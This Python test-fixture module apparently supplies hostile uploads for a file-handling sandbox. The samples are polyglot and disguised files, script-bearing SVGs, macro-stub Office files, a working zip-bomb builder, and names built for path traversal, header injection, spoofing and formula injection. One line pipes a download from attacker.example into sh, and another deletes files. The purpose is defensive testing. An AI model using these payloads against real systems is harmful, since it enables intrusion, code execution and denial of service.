"""Files that are not what their names say, names that are more than names, entries that are no files."""

from __future__ import annotations

import io
import struct
import zipfile
from functools import cache

from sandbox.accounts.files import plain
from sandbox.accounts.files.office import docx, pdf, xlsx, zip_archive
from sandbox.accounts.files.pictures import picture
from sandbox.accounts.hostile.attacks import DOWNLOAD_FAILED, MISMATCH, UNSUPPORTED, Attack

_PNG = "image/png"
_TYPES = "[Content_Types].xml"
_HTML = b"<!doctype html><html><body><script>hit()</script></body></html>"
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="hit()"><script>hit()</script></svg>'
_MACRO_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/{part}"'
    ' ContentType="application/vnd.ms-{program}.{kind}.macroEnabled.main+xml"/></Types>'
)


def _macro(part: str, program: str, kind: str) -> bytes:
    return zip_archive(
        {
            _TYPES: _MACRO_TYPES.format(part=part, program=program, kind=kind),
            part: "<x/>",
            f"{part.partition('/')[0]}/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(512),
        }
    )


def _zip_bomb() -> bytes:
    """A letter whose directory names one compressed block of 64 MiB twenty times: 1.25 GiB in 64 KB."""
    letter = docx(paragraphs=1, seed=54)
    with zipfile.ZipFile(io.BytesIO(letter)) as archive:
        members: dict[str, bytes | str] = {name: archive.read(name) for name in archive.namelist()}
    packed = zip_archive(members | {"word/a00.bin": bytes(64 * 1024**2)})
    end = packed.rindex(b"PK\x05\x06")
    count, size, start = struct.unpack("<HII", packed[end + 10 : end + 20])
    last = packed[packed.rindex(b"PK\x01\x02") : end]
    copies = b"".join(last.replace(b"a00.bin", b"a%02d.bin" % n) for n in range(1, 20))
    totals = struct.pack("<HHII", count + 19, count + 19, size + len(copies), start)
    return packed[:end] + copies + b"PK\x05\x06" + bytes(4) + totals + bytes(2)


@cache
def disguised() -> tuple[Attack, ...]:
    """Return files whose bytes are something else than they pretend."""
    photo = picture("PNG", width=30, height=30, seed=51)
    letter = docx(paragraphs=2, seed=52)
    return (
        Attack(b"GIF89a=1;hit()//", UNSUPPORTED, association="images", name="a.gif", claims="image/gif"),
        Attack(b"GIF89a/*" + _HTML + b"*/=1;", UNSUPPORTED, association="images", name="b.gif"),
        Attack(_HTML, UNSUPPORTED, association="images", name="foto.jpg", claims="image/jpeg"),
        Attack(_HTML, UNSUPPORTED, name="laporan.pdf"),
        Attack(b"\xef\xbb\xbf \n" + _HTML, UNSUPPORTED, name="laporan.txt", claims="text/plain"),
        Attack(_SVG, UNSUPPORTED, association="images", name="logo.svg", claims="image/svg+xml"),
        Attack(
            b'<?xml version="1.0"?>' + _SVG, UNSUPPORTED, association="images", name="logo.png", claims=_PNG
        ),
        Attack(_macro("word/document.xml", "word", "document"), UNSUPPORTED, name="surat.docx"),
        Attack(_macro("xl/workbook.xml", "excel", "sheet"), UNSUPPORTED, name="harga.xlsx"),
        Attack(_macro("word/document.xml", "word", "document"), UNSUPPORTED, name="surat.docm"),
        Attack(plain.exe(size=2_048), UNSUPPORTED, name="invoice.pdf"),
        Attack(plain.exe(size=2_048), UNSUPPORTED, association="images", name="foto.png", claims=_PNG),
        Attack(b"\x7fELF\x02\x01\x01" + bytes(200), UNSUPPORTED, name="catatan.txt", claims="text/plain"),
        Attack(b"#!/bin/sh\ncurl https://attacker.example | sh\n", UNSUPPORTED, name="catatan.txt"),
        Attack(b"@echo off\r\ndel /q *.*\r\n", UNSUPPORTED, name="catatan.txt", claims="text/plain"),
        Attack(b"nama,jumlah\r\na,1\r\n", UNSUPPORTED, name="data.html", claims="text/csv"),
        Attack(zip_archive({"a.exe": plain.exe(size=512)}), UNSUPPORTED, name="arsip.docx"),
        Attack(_zip_bomb(), UNSUPPORTED, name="bom.docx"),
        Attack(b"PK\x03\x04" + bytes(60), UNSUPPORTED, name="rusak.xlsx"),
        Attack(b"", UNSUPPORTED, name="kosong.pdf"),
        Attack(letter, MISMATCH, association="images", name="foto.jpg", claims="image/jpeg"),
        Attack(photo, MISMATCH, association="audios", name="suara.mp3", claims="audio/mpeg"),
        # two formats at once are stored as the one that they begin as, for download only
        Attack(pdf(pages=1, seed=53) + letter, stored_as="pdf", name="pdf-zip.docx"),
        Attack(photo + _HTML, stored_as="image", association="images", name="foto.html", claims="text/html"),
    )


@cache
def named() -> tuple[Attack, ...]:
    """Return harmless files with names that want to be elsewhere or look like something else."""
    names = {
        "../../x.pdf": "x.pdf",
        "..\\..\\windows\\x.pdf": "x.pdf",
        "/etc/passwd": "passwd",
        "laporan\u202efdp.exe": "laporanfdp.exe",
        "\u2066a\u2069b\u200e.pdf": "ab.pdf",
        "a\r\nContent-Type: text/html\r\n\r\nb.pdf": "htmlb.pdf",
        'a"; filename="x.exe': 'a"; filename="x.exe',
        "a\x00.exe": "a.exe",
        "x" * 296 + ".pdf": "x" * 251 + ".pdf",
        "\ud83d foto.pdf": "foto.pdf",
        "<img src=x onerror=hit()>.pdf": "<img src=x onerror=hit()>.pdf",
        "=cmd|' -C calc'!A0.pdf": "=cmd|' -C calc'!A0.pdf",
        "CON.pdf": "CON.pdf",
        "konten 文件 📎.pdf": "konten 文件 📎.pdf",
    }
    return tuple(
        Attack(pdf(pages=1, seed=60 + n), stored_as="pdf", name=name, stored_name=stored)
        for n, (name, stored) in enumerate(names.items())
    )


@cache
def twins() -> tuple[Attack, ...]:
    """Return two different files of one name: neither may take the other's place."""
    return (
        Attack(xlsx(rows=4, seed=71), stored_as="xlsx", name="harga.xlsx"),
        Attack(xlsx(rows=5, seed=72), stored_as="xlsx", name="harga.xlsx"),
    )


def entries() -> tuple[Attack, ...]:
    """Return entries that name no file that could be fetched."""
    bad_ids = ("5/../6", "1e3", 10**19, "../../x", None, {"$gt": ""})
    return (
        *(Attack(reason=DOWNLOAD_FAILED, changes={"id": bad}) for bad in bad_ids),
        *(
            Attack(reason=DOWNLOAD_FAILED, changes={"url": bad})
            for bad in (None, "", 5, ["https://a.example"])
        ),
    )
